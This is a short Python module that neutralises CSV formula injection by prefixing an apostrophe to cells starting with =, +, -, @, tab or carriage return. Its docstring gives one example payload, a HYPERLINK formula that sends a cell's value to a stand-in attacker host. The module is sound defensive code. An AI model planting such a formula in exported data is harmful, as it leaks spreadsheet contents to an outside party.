"""Cells that are safe to open in a spreadsheet.

Excel, LibreOffice and Google Sheets run a CSV cell that starts with `=`, `+`, `-` or `@` (and, in some,
a tab or carriage return before one) as a formula: a REST sender or a member's name such as
`=HYPERLINK("https://evil.example/?"&A1)` would run on the operator's machine. `safe_cell` puts an
apostrophe in front of such text, which spreadsheets show as the plain text it was (OWASP's advice for
CSV injection); numbers, dates and other text pass unchanged.
"""
from __future__ import annotations

from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value
